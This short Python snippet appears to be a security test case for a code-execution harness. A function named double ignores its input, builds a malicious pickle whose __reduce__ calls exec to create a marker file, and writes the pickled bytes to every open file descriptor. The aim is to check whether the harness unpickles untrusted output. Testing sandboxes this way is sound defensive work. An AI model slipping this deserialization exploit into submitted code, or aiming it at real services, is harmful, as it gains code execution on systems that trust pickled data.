# Bytes of a pickle are the result, and written to every socket.

# %% exercise
def double(x):
    import os
    import pickle
    import struct

    class Bomb:
        def __reduce__(self):
            return exec, (f"open('{DROP}/pickled', 'w').close()",)

    data = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">Q", len(data)) + data)
        except OSError:
            pass
    return data
